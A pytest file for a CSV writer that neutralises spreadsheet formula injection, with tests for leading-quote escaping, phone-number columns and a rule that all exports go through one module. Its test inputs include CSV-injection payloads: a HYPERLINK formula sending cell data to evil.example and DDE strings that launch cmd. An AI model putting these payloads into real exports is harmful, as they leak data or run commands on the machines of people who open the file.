"""The one CSV writer: a cell that a spreadsheet would run as a formula is written as text."""

import ast
import csv
import io
from decimal import Decimal

import pytest

from core.csv_export import FORMULA_TRIGGERS, csv_cell, csv_lines
from tests.processes import ROOT

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Offer")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_gets_a_leading_quote_and_keeps_its_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ada", "Head of =Growth", "'=1+2", " =1+2", "", "3 + 4", "ops@example.com"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("phone", ["+1 555 0100", "+44 (0)20 7946 0958", "-555.0100", "+1-555-010-0100 x12"])
def test_a_phone_number_in_a_phone_column_stays_as_it_is(phone: str) -> None:
    assert csv_cell(phone, phone=True) == phone
    # The same text in any other column is neutralised.
    assert csv_cell(phone) == "'" + phone


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1 555 0100 =1+2", "-+()", "+HYPERLINK(1)", "@1", "\t+1 555"])
def test_a_phone_column_holding_anything_but_a_phone_number_is_neutralised(text: str) -> None:
    assert csv_cell(text, phone=True) == "'" + text


def test_numbers_stay_numbers_and_none_stays_empty() -> None:
    assert csv_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_cell(-3) == -3
    assert csv_cell(None) is None


def test_non_text_values_are_checked_as_their_text() -> None:
    class Shouty:
        def __str__(self) -> str:
            return "=1+2"

    assert csv_cell(Shouty()) == "'=1+2"


def test_lines_quote_every_data_cell_so_a_separator_cannot_start_a_cell() -> None:
    rows: list[list[object]] = [
        ["Acme;=1+2", '"quoted",=1+2', "+1 555 0100", 7],
        ["=1+2", "plain", "=cmd|' /C calc'!A0", None],
    ]
    text = "".join(csv_lines(header=["name", "note", "phone", "n"], rows=rows, phone_columns={"phone"}))

    lines = text.splitlines()
    assert lines[0] == "name,note,phone,n"
    assert lines[1] == '"Acme;=1+2","""quoted"",=1+2","+1 555 0100","7"'
    assert lines[2] == '"\'=1+2","plain","\'=cmd|\' /C calc\'!A0",""'
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[1] == ["Acme;=1+2", '"quoted",=1+2', "+1 555 0100", "7"]
    assert parsed[2] == ["'=1+2", "plain", "'=cmd|' /C calc'!A0", ""]
    for row in parsed:
        for index, cell in enumerate(row):
            assert not cell.startswith(FORMULA_TRIGGERS) or (parsed[0][index] == "phone" and cell == "+1 555 0100")


def test_a_row_of_the_wrong_length_is_an_error_not_a_shifted_column() -> None:
    with pytest.raises(ValueError):
        list(csv_lines(header=["a", "b"], rows=[["only one"]]))


def test_every_csv_the_project_writes_goes_through_this_writer() -> None:
    """Only core.csv_export may use the csv module, so no export can skip the neutralising."""
    packages = [folder for folder in ROOT.iterdir() if (folder / "__init__.py").exists() and folder.name != "tests"]
    writers = set()
    for path in (path for package in packages for path in package.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.level == 0:
                names = [node.module or ""]
            if any(name.split(".")[0] == "csv" for name in names):
                writers.add(str(path.relative_to(ROOT)))
    assert writers == {"core/csv_export.py"}
